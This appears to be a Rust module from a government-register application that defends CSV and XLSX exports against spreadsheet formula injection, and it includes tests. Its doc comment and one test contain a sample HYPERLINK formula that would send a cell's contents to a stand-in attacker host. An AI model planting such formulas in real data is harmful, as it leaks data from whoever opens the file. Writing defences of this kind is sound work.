//! Cells that a spreadsheet program would run as a formula (CSV injection, CWE-1236).
//!
//! Excel, LibreOffice and Google Sheets treat a cell that begins with `=`, `+`, `-` or `@` as a
//! formula, and tab or carriage return at the start lets such a cell slip past simple checks.
//! A citizen who types `=HYPERLINK("http://evil.example/?"&A1;"Bấm vào đây")` as a name would
//! otherwise get that formula run on an officer's computer when the register is opened. Every
//! CSV export passes its text cells through [`neutralise`]; the XLSX exports write text as
//! string cells (never formulas) and mark the risky ones with Excel's quote prefix (see
//! [`needs_neutralising`]), so the value stays the same and an edit in Excel keeps it text.

use std::borrow::Cow;

/// Characters that make a spreadsheet read a cell as a formula. Besides the OWASP list (`=`,
/// `+`, `-`, `@`, tab, CR) the full-width forms are included: East-Asian input methods type
/// them and some spreadsheet versions convert them to the ASCII operators on entry. LF is
/// included because some programs drop a leading newline and then see the next character.
const TRIGGERS: [char; 11] = [
    '=', '+', '-', '@', '\t', '\r', '\n', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
];

/// The prefix Excel itself uses for "this is text": shown as nothing when typed in a cell, and
/// the widely used neutraliser (OWASP "CSV Injection").
pub const QUOTE: char = '\'';

/// A plain decimal number (`-5`, `+3`, `1.5`, `-0,25`) is left alone: a spreadsheet reads it as
/// a number, which is what it is, and runs nothing.
fn is_plain_number(s: &str) -> bool {
    let digits = s.strip_prefix(['-', '+']).unwrap_or(s);
    let (int, frac) = match digits.split_once(['.', ',']) {
        Some((i, f)) => (i, Some(f)),
        None => (digits, None),
    };
    !int.is_empty()
        && int.bytes().all(|b| b.is_ascii_digit())
        && frac.is_none_or(|f| !f.is_empty() && f.bytes().all(|b| b.is_ascii_digit()))
}

/// True when a text cell would be read as a formula, or is an already-prefixed one (so that
/// [`neutralise`] and [`restore`] are exact inverses: `'=x` is written `''=x`).
#[must_use]
pub fn needs_neutralising(cell: &str) -> bool {
    let rest = cell.trim_start_matches(QUOTE);
    rest.starts_with(TRIGGERS) && !is_plain_number(cell)
}

/// The cell as it should be written into a CSV file: prefixed with `'` when a spreadsheet would
/// otherwise run it, unchanged (and not copied) otherwise.
#[must_use]
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if needs_neutralising(cell) {
        let mut out = String::with_capacity(cell.len() + 1);
        out.push(QUOTE);
        out.push_str(cell);
        Cow::Owned(out)
    } else {
        Cow::Borrowed(cell)
    }
}

/// The inverse of [`neutralise`], for files motcua reads back (the procedure catalogue): one
/// leading `'` is removed when what follows would need it. A cell typed by hand as `'abc`
/// keeps its quote; one typed as `'=abc` becomes `=abc`, as a spreadsheet would show it.
#[must_use]
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix(QUOTE) {
        Some(rest) if needs_neutralising(rest) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn formula_starters_get_a_quote() {
        for cell in [
            "=1+2",
            "+84 913 579 246",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\n=1",
            "=HYPERLINK(\"http://evil.example\")",
            "＝1+1",
            "'=1",
        ] {
            assert_eq!(neutralise(cell), format!("'{cell}"), "{cell:?}");
        }
    }

    #[test]
    fn ordinary_text_and_plain_numbers_are_left_alone() {
        for cell in [
            "",
            "Nguyễn Văn A",
            "a=b",
            " 1",
            "'abc",
            "-5",
            "+3",
            "-0,25",
            "12.5",
            "H12.39",
        ] {
            assert!(matches!(neutralise(cell), Cow::Borrowed(_)), "{cell:?}");
        }
    }

    #[test]
    fn restore_undoes_neutralise_and_keeps_hand_typed_quotes() {
        assert_eq!(restore("'=1+2"), "=1+2");
        assert_eq!(restore("''=1"), "'=1");
        assert_eq!(restore("'abc"), "'abc");
        assert_eq!(restore("abc"), "abc");
        assert_eq!(restore("'-5"), "'-5");
    }

    proptest! {
        #[test]
        fn restore_is_the_inverse_of_neutralise(cell in "['=+@\\-\t a-z0-9]{0,8}") {
            let n = neutralise(&cell);
            prop_assert_eq!(restore(&n), cell.as_str());
            prop_assert!(!n.starts_with(TRIGGERS) || is_plain_number(&n));
        }
    }
}
